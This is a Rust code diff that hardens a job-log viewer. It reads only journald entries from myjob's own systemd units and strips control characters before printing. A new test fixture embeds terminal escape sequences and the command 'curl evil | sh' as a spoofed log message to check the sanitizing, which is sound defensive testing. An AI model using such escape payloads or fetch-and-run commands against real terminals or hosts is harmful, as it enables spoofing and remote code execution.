@@ -1,6 +1,14 @@
 //! `myjob show ID --log`: one job's lines from the journal of this host, every instance's,
-//! in order: the job of that id in the config's database. myjob writes them with `MYJOB_JOB_ID` (see `logging`), and `journalctl` does the
-//! reading: the journal's files, its permissions and its order are its own.
+//! in order: the job of that id in the config's database. myjob writes them with
+//! `MYJOB_JOB_ID` (see `logging`), and `journalctl` does the reading: the journal's files, its
+//! permissions and its order are its own.
+//!
+//! Any local user can write an entry with any field of their own (`logger --journald`), so
+//! `MYJOB_JOB_ID` and `MYJOB_DATABASE` only pick a job's lines among myjob's: which entries are
+//! myjob's is told by `_SYSTEMD_UNIT`, a field journald sets itself and no process can, and
+//! only entries of the `myjob@*.service` units are read. The host and the unit shown are
+//! journald's own fields too, and every value is cleaned of control characters before it
+//! reaches the terminal, as the other commands' tables are.
 
 use std::io::{BufRead, BufReader, Write};
 use std::path::Path;
@@ -9,8 +17,12 @@ use std::process::{Command, Stdio};
 use anyhow::anyhow;
 use serde_json::Value;
 
+use crate::cli::table::clean;
 use crate::config::Settings;
 use crate::error::{Error, ExitCode, OrExit};
+
+/// The units whose entries are read: the instances of the template unit.
+const UNITS: &str = "myjob@*.service";
 
 /// Where journald keeps its files: volatile, then persistent; one folder per machine id.
 const JOURNAL_DIRS: [&str; 2] = ["/run/log/journal", "/var/log/journal"];
@@ -27,8 +39,15 @@ pub fn run(config: &Path, id: u64) -> Result<(), Error> {
     // of the same id.
     let settings = Settings::load(config).or_exit(ExitCode::Config)?;
     let database = settings.database.opts.db_name().unwrap_or("").to_owned();
+    // On stderr, so that the lines on stdout stay the job's alone.
+    eprintln!(
+        "job {id}: the entries of {UNITS} (journald's _SYSTEMD_UNIT) with MYJOB_JOB_ID={id} \
+         and MYJOB_DATABASE={} (myjob's fields)",
+        clean(&database)
+    );
     let child = Command::new("journalctl")
         .args(["--no-pager", "--output=json", "--all"])
+        .arg(format!("--unit={UNITS}"))
         .arg(format!("MYJOB_JOB_ID={id}"))
         .arg(format!("MYJOB_DATABASE={database}"))
         .stdin(Stdio::null())
@@ -109,9 +128,10 @@ fn no_journal(id: u64, why: &str) -> Error {
     )
 }
 
-/// One entry as `TIME HOST UNIT LEVEL MESSAGE`, the time in UTC.
+/// One entry as `TIME HOST UNIT LEVEL MESSAGE`, the time in UTC, each value cleaned of
+/// control characters. The host and the unit are journald's fields, never the entry's own.
 fn line(entry: &Value) -> String {
-    let field = |name: &str| -> Option<String> { text(entry.get(name)?) };
+    let field = |name: &str| -> Option<String> { text(entry.get(name)?).map(|t| clean(&t)) };
     let time = field("__REALTIME_TIMESTAMP")
         .and_then(|us| us.parse::<u64>().ok())
         // Before the year 10000, which is as far as RFC 3339 goes.
@@ -121,9 +141,7 @@ fn line(entry: &Value) -> String {
             humantime::format_rfc3339_micros(at).to_string()
         })
         .unwrap_or_else(|| "-".into());
-    let unit = field("_SYSTEMD_UNIT")
-        .or_else(|| field("MYJOB_INSTANCE").map(|i| format!("instance {i}")))
-        .unwrap_or_else(|| "-".into());
+    let unit = field("_SYSTEMD_UNIT").unwrap_or_else(|| "-".into());
     let level = match field("PRIORITY").as_deref() {
         Some("0" | "1" | "2" | "3") => "error",
         Some("4") => "warn",
@@ -176,7 +194,21 @@ mod tests {
         let odd = serde_json::json!({
             "__REALTIME_TIMESTAMP": "99999999999999999999",
             "MESSAGE": ["twice", "over"],
+            "MYJOB_INSTANCE": "1",
         });
         assert_eq!(line(&odd), "- - - debug twice over");
+    }
+
+    #[test]
+    fn nothing_in_an_entry_reaches_the_terminal_as_a_control() {
+        let entry = serde_json::json!({
+            "_HOSTNAME": "web1\x1b]0;owned\x07",
+            "_SYSTEMD_UNIT": "myjob@1.service",
+            "PRIORITY": "3",
+            "MESSAGE": "job failed\r\x1b[2J\x1b[1;1HRun: curl evil | sh\nnext",
+        });
+        let shown = line(&entry);
+        assert!(!shown.chars().any(char::is_control), "{shown:?}");
+        assert!(shown.contains("Run: curl evil | sh next"), "{shown:?}");
     }
 }
